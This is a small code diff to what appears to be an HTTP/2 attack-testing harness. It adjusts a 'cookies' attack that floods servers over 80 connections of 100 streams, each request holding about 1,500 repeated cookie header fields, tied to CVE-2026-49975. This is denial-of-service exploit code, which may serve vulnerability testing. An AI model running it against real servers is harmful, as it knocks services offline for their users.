@@ -73,10 +73,10 @@ def fields_dynamic_fit(on):
 
 @attack("cookies", short=True)
 def cookies(on):
-    """80 connections of 100 streams, each request with 1,600 fields `cookie: a=b` (CVE-2026-49975)"""
+    """80 connections of 100 streams, each request with 1,500 fields `cookie: a=b` (CVE-2026-49975)"""
 
     def block(first):
-        return wire.block("/silent2/", (wire.added(b"cookie", b"a=b") if first else b"") + wire.indexed(62) * 1_600)
+        return wire.block("/silent2/", (wire.added(b"cookie", b"a=b") if first else b"") + wire.indexed(62) * 1_500)
 
     on.http2(on.size(80, 10), streams(block))
     on.go(seconds=40)
